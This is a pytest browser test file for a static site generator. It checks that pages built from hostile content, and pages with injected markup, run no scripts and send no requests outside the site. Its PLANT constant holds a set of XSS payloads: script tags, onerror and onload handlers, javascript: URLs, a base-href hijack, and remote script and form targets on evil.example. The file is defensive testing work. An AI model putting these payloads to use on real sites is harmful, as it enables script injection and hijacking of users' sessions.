"""A browser opens pages made of attacks: nothing runs, nobody is asked, nothing moves; and what is planted afterwards does not run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile import BODIES, PWN, write_hostile
from sites import NOW
from static_host import served

from microsite.build import Options, build

pytestmark = pytest.mark.browser
FLAVORS = {"default": "python", "board": "gfm"}
# one page of each type; a redirect is opened by itself, since it leads on
TYPES = {
    "home": "", "session": "events/e0/", "mentor": "mentors/m0/", "upcoming": "events/", "month": "events/2026/12/", "archive": "events/archive/",
    "mentors": "mentors/", "topics": "topics/", "topic": "topics/pricing/", "series": "series/s0/", "outcomes": "outcomes/", "prose": "p0/",
    "search": "search/?q=title", "not found": "no/such/page/",
}  # fmt: skip
PLANT = f"""<script>{PWN}</script><script src="data:text/javascript,{PWN}"></script><img src=/none {"onerror"}={PWN}>
<svg onload={PWN}></svg><iframe srcdoc="<script>parent.{PWN}</script>"></iframe><iframe src="javascript:parent.{PWN}"></iframe>
<object data="data:text/html,<script>parent.{PWN}</script>"></object><embed src="data:text/html,x"><base href="https://evil.example/">
<script src="https://evil.example/x.js"></script><img src="https://evil.example/x.png"><link rel=stylesheet href="https://evil.example/x.css">
<form id=plant-form action="https://evil.example/"><button id=plant-button>go</button></form><a id=plant href="javascript:{PWN}">x</a>"""
SEEN = """() => ({
  pwned: window.__pwned ?? null,
  main: document.getElementById('main')?.tagName, byId: [...document.querySelectorAll('main')].length,
  search: document.getElementById('search')?.tagName ?? null,
  plain: [document.forms, document.body, document.cookie, document.location].map((it) => Object.prototype.toString.call(it)),
  last: document.body.lastElementChild.tagName, base: new URL('x', document.baseURI).host === location.host,
  covered: !document.elementFromPoint(10, 10)?.closest('.prose'),
})"""


class Watch:
    """What a page does that it must not: dialogs, foreign requests, broken rules of its own policy, faults."""

    def __init__(self, page: Any, home: str) -> None:
        self.seen: list[str] = []
        page.on("dialog", self._opened)
        page.on("request", lambda asked: self._asked(asked.url, home))
        page.on("pageerror", lambda fault: self.seen.append(f"fault {fault}"))
        page.on("console", self._told)

    def _opened(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _asked(self, url: str, home: str) -> None:
        if not url.startswith((home, "data:", "blob:")):
            self.seen.append(f"asks {url}")

    def _told(self, told: Any) -> None:
        if told.type == "error" and "404" not in told.text:
            self.seen.append(f"console {told.text}")


@pytest.fixture(scope="module", params=FLAVORS)
def hosted(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path]]:
    """Give the address of a site of attacks in one theme, as a static host serves it, and its files."""
    root = tmp_path_factory.mktemp("hostile")
    write_hostile(root, FLAVORS[request.param], request.param)
    build(Options(root=root, at=NOW))
    with served(root / "output") as home:
        yield home, root / "output"


def test_nothing_runs_and_nobody_is_asked(hosted: tuple[str, Path], browser: Any) -> None:
    home, output = hosted
    items = [
        path.parent.relative_to(output).as_posix() + "/"
        for path in sorted(output.glob("events/e*/index.html"))
    ]
    assert len(items) >= len(BODIES)
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.set_default_timeout(20_000)
        watch = Watch(page, home)
        for path in [*TYPES.values(), *items]:
            page.goto(f"{home}/{path}", wait_until="load")
            found = page.evaluate(SEEN)
            assert watch.seen == [], path
            assert found["pwned"] is None, path
            assert (found["main"], found["byId"], found["last"], found["base"]) == (
                "MAIN",
                1,
                "FOOTER",
                True,
            ), path
            assert found["search"] == ("DIV" if path.startswith("search/") else None), path
            assert found["plain"] == [
                "[object HTMLCollection]",
                "[object HTMLBodyElement]",
                "[object String]",
                "[object Location]",
            ], path
            assert found["covered"], path


def test_what_is_planted_in_a_page_does_not_run(hosted: tuple[str, Path], browser: Any) -> None:
    home, output = hosted
    old = next(path for path in output.glob("old/*/index.html"))
    redirect = old.parent.relative_to(output).as_posix() + "/"
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.set_default_timeout(20_000)
        asked: list[str] = []

        def planted(route: Any) -> None:
            asked.append(route.request.url)
            if not route.request.url.startswith(home):
                route.abort()
            elif route.request.resource_type == "document" and route.request.frame == page.main_frame:
                answer = route.fetch(max_redirects=0)
                text = re.sub(r"<meta http-equiv=.refresh[^>]*>", "", answer.text())
                at = text.index("<main")
                # only what the page says of itself is tried, not the headers of a host
                headers = {
                    name: value for name, value in answer.headers.items() if name.lower() == "content-type"
                }
                route.fulfill(status=answer.status, headers=headers, body=text[:at] + PLANT + text[at:])
            else:
                route.continue_()

        page.route("**/*", planted)
        page.add_init_script("window.onbeforeunload = null")
        for name, path in [*TYPES.items(), ("redirect", f"{redirect}index.html")]:
            page.goto(f"{home}/{path}", wait_until="load")
            assert page.evaluate("document.querySelector('#plant') !== null"), name
            page.evaluate("document.querySelector('#plant').click()")
            page.evaluate("document.querySelector('#plant-button').click()")
            page.wait_for_timeout(50)
            assert page.evaluate("window.__pwned ?? null") is None, name
            assert page.evaluate("new URL('x', document.baseURI).host === location.host"), name
            assert page.url.startswith(home), name
        assert [url for url in asked if "evil.example" in url] == []


def test_the_plant_itself_would_run(browser: Any) -> None:
    page = browser.new_page()
    page.set_content(f"<main>x</main>{PLANT}")
    assert page.evaluate("window.__pwned") == 1
    page.close()
